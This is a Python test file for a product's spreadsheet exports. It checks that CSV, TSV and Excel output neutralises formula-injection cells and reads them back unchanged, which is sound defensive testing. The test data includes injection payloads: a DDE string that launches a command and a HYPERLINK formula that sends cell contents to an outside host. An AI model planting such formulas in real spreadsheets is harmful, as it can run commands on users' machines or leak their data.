"""Spreadsheet formula injection (issue 41, item 2): every CSV/TSV the product writes neutralises cells that Excel
or LibreOffice would run as a formula (OWASP: a leading apostrophe before = + - @ tab CR), and reading our own
export back strips it again, so the round trip stays lossless."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from core.io import export_papers, read_papers
from core.io.formulas import csv_bytes, neutralise, restore
from core.records import Paper

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTab start", "\rCR start", "'=already quoted", "''-twice"]
SAFE = ["-1.5", "+44", "-3e5", "plain", "'Tis the season", "", "a=b", "50%"]


@pytest.mark.parametrize("text", FORMULAS + SAFE)
def test_restore_undoes_neutralise_for_every_text(text: str):
    assert restore(neutralise(text)) == text


def test_formulas_get_an_apostrophe_and_numbers_and_plain_text_do_not():
    assert [neutralise(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
    assert [neutralise(t) for t in SAFE] == SAFE


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".csv.gz"])
def test_the_papers_export_writes_no_live_formula_and_reads_back_whole(tmp_path, suffix: str):
    papers = [Paper(f"p{i}", f"{formula} title {i}" if i % 2 else formula, f"Abstract {i}: {formula}",
                    {"journal": formula, "keywords": [formula, "safe"], "note": f"=cmd {i}"})
              for i, formula in enumerate(FORMULAS)]
    path = tmp_path / f"out{suffix}"
    export_papers(papers, path)
    opener = __import__("gzip").open if suffix.endswith(".gz") else open
    with opener(path, "rt", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle, delimiter="\t" if suffix == ".tsv" else ","))
    live = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == []
    back = [p for p in read_papers(path) if isinstance(p, Paper)]
    assert [(p.id, p.title, p.abstract, p.fields["journal"], p.fields["keywords"], p.fields["note"]) for p in back] \
        == [(p.id, " ".join(p.title.split()), p.abstract.strip(), p.fields["journal"], p.fields["keywords"],
             p.fields["note"]) for p in papers]


def test_the_download_tables_write_no_live_formula():
    frame = pd.DataFrame({"title": FORMULAS, "x": range(len(FORMULAS)), "score": [-0.5] * len(FORMULAS)})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert rows[0] == ["title", "x", "score"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in FORMULAS]
    assert {r[2] for r in rows[1:]} == {"-0.5"}  # a number stays a number
    assert pd.read_csv(io.StringIO(csv_bytes(pd.DataFrame({"=A1": [1]}), index=True).decode())).columns[-1] == "'=A1"


def test_the_excel_export_writes_text_cells_only_and_reads_back_whole(tmp_path):
    """A librarian's collection exported for Excel (the menus offered CSV only): every cell is a text, number or
    empty cell, never a formula (a title '=HYPERLINK(…)' stays a text, marked quote-prefixed as Excel marks text
    typed after an apostrophe), and importing the workbook gives back the same papers."""
    import openpyxl

    from core.io.reference_export import EXPORT_FORMATS

    assert EXPORT_FORMATS["xlsx"][1] == ".xlsx"
    papers = [Paper(f"p{i}", f"{formula} title {i}" if i % 2 else formula, f"Abstract {i}: {formula}",
                    {"journal": formula, "keywords": [formula, "safe"], "note": f"=cmd {i}", "year": 2000 + i,
                     "bad": "a\x01b"})
              for i, formula in enumerate(FORMULAS)]
    path = tmp_path / "out.xlsx"
    assert export_papers(papers, path, "xlsx") == len(papers)
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}, {cell.data_type for cell in cells}
    assert all(cell.quotePrefix for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r"
               and not cell.value.lstrip("+-").replace(".", "", 1).isdigit())
    back = [p for p in read_papers(path) if isinstance(p, Paper)]
    assert [(p.id, p.title, p.abstract, p.fields["journal"], p.fields["keywords"], p.fields["note"]) for p in back] \
        == [(p.id, " ".join(p.title.split()), p.abstract.strip(), p.fields["journal"],
             p.fields["keywords"], p.fields["note"]) for p in papers]  # "a; b", as Scopus, read back whole
    assert [str(p.fields["year"]) for p in back] == [str(2000 + i) for i in range(len(papers))]
